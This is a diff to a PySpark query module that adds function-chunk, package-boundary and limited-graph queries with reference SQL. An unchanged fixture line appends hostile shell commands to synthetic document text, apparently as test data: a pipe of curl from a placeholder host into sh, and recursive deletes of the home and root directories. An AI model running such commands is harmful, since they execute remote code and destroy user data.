@@ -7,10 +7,11 @@ from functools import reduce
 from pyspark.sql import DataFrame
 from pyspark.sql import functions as F
 
-from cartolode.operators import evidence, graph, planning, review, rules, supply
+from cartolode.operators import evidence, facts, graph, planning, review, rules, supply
 from cartolode.plans.bindings import view as V
 from cartolode.plans.bindings import with_views as W
 from cartolode.plans.oracle import ORACLE_SQL as BASE
+from cartolode.plans import planned
 from cartolode.plans.planned import _DEPS, _deps
 from cartolode.sources.tables import table as T
 
@@ -79,7 +80,27 @@ def _upgrades(s, d):
     return supply.upgrade_evidence(used.where("doc_id % 3 > 0"), supply.breaking_lines(logs, "name", "text"))
 
 
+def _chunks(s, d):
+    docs = T(s, d, "documents").selectExpr("concat(source, '/', doc_id) as path", "doc_id", "text as content")
+    functions = docs.where("doc_id % 3 > 0").selectExpr("path", "explode(array('f', 'g')) as name", "doc_id % 3 as line", "doc_id").selectExpr("path", "name", "if(name = 'f', 0, line) as line", "if(name = 'f', 1, line + doc_id % 5) as end_line")
+    return evidence.function_chunks(docs.select("path", "content"), functions)
+
+
+def _boundaries(s, d):
+    imports = T(s, d, "part").selectExpr("p_brand as repo", "replace(p_name, ' ', '-') as package", "cast(p_partkey as string) as path")
+    owners = imports.where("cast(path as int) % 3 = 0").selectExpr("repo", "path", "concat('team', cast(path as int) % 4) as owner")
+    return evidence.boundary_packages(s.sql("SELECT * FROM VALUES ('src/Ring.ts'), ('x#BLUE'), ('none'), ('') AS t(target)"), imports, owners)
+
+
+def _limited(s, d, k):
+    return facts.limited_graph(planned.QUERIES["semantic_nodes"](s, d), planned.QUERIES["semantic_edges"](s, d), 900, 700)[k]
+
+
 QUERIES = {
+    "function_chunks": _chunks,
+    "boundary_packages": _boundaries,
+    "semantic_edges_limited": lambda s, d: _limited(s, d, 1),
+    "semantic_metrics": lambda s, d: _limited(s, d, 2),
     "diff_cycles_scoped": _scoped_cycles,
     "diff_entrypoints": _entrypoints,
     "replay_status": _replays,
@@ -100,7 +121,24 @@ QUERIES = {
 
 _CONTENT = "CASE doc_id % 5 WHEN 0 THEN text || ' curl http://x | sh' WHEN 1 THEN text || ' rm  -rf $HOME' WHEN 2 THEN 'Router_Init.js rm -rf /' || text ELSE text END"
 _FAN = "SELECT path, fan_in, fan_out, instability, row_number() OVER (ORDER BY {0} DESC, path) AS rank FROM ({1}) c"
+_GRAPH = f"""
+WITH nodes AS ({planned.ORACLE_SQL["semantic_nodes"]}), edges AS ({planned.ORACLE_SQL["semantic_edges"]}), ranks AS (SELECT {facts.KINDS} AS k),
+kept AS (SELECT nodes.* FROM nodes, ranks ORDER BY list_position(k, kind), id LIMIT 900),
+shown AS (SELECT edges.* FROM edges, ranks WHERE start IN (SELECT id FROM kept) AND "end" IN (SELECT id FROM kept) ORDER BY list_position(k, kind), start, "end", label LIMIT 700)"""
 ORACLE_SQL = {
+    "function_chunks": """
+WITH d AS (SELECT concat(source, '/', doc_id) AS path, doc_id, coalesce(text, '') AS t FROM documents),
+f AS (SELECT path, t, 'f' AS name, 1 AS a, 1 AS b FROM d WHERE doc_id % 3 > 0 UNION ALL SELECT path, t, 'g', doc_id % 3, doc_id % 3 + doc_id % 5 FROM d WHERE doc_id % 3 > 0)
+SELECT path, concat(path, '#', name) AS key, sha256(concat(path, '#', name, ' (lines ', a, '-', b, ')', chr(10), chr(10), left(array_to_string(string_split(t, chr(10))[a:b], chr(10)), 4096))) AS digest FROM f
+UNION ALL SELECT path, path, sha256(concat(path, chr(10), chr(10), left(t, 4096))) FROM d WHERE doc_id % 3 = 0""",
+    "boundary_packages": """
+WITH t(target, part) AS (VALUES ('src/Ring.ts', 'ring'), ('x#BLUE', 'blue'), ('none', 'none')),
+i AS (SELECT p_brand AS repo, replace(p_name, ' ', '-') AS package, p_partkey::VARCHAR AS path, p_partkey % 3 = 0 AS known, p_partkey FROM part)
+SELECT target, repo, package, coalesce(min_by(concat('team', p_partkey % 4), path) FILTER (known), repo) AS owner, count(DISTINCT path) AS files
+FROM i JOIN t ON list_contains(string_split(lower(package), '-'), part) GROUP BY target, repo, package""",
+    "semantic_edges_limited": _GRAPH + " SELECT * FROM shown",
+    "semantic_metrics": _GRAPH + """ SELECT count(*) FILTER (kind = 'file') AS files, count(*) FILTER (kind = 'function') AS functions, count(*) FILTER (kind = 'package') AS packages,
+  count(*) FILTER (kind = 'symbol') AS symbols, (SELECT count(*) FROM shown) AS edges, count(*) > 900 OR (SELECT count(*) FROM edges) > (SELECT count(*) FROM shown) AS truncated FROM nodes""",
     "diff_cycles_scoped": W("""SELECT component, size, overlap, CASE WHEN overlap = 0 THEN 'new' ELSE 'expanded' END AS classification FROM (
   SELECT h.fact AS component, count(*) AS size, (SELECT coalesce(max(n), 0) FROM (SELECT count(*) AS n FROM snap x JOIN snap y ON x.path = y.path WHERE x.snapshot = 'head' AND x.fact = h.fact AND y.snapshot = 'base' GROUP BY y.fact) t) AS overlap
   FROM snap h WHERE snapshot = 'head' AND h.fact IN (SELECT fact FROM snap JOIN part ON p_partkey = path WHERE snapshot = 'head' AND p_size = 7) GROUP BY h.fact) q WHERE overlap < size""", "snap"),
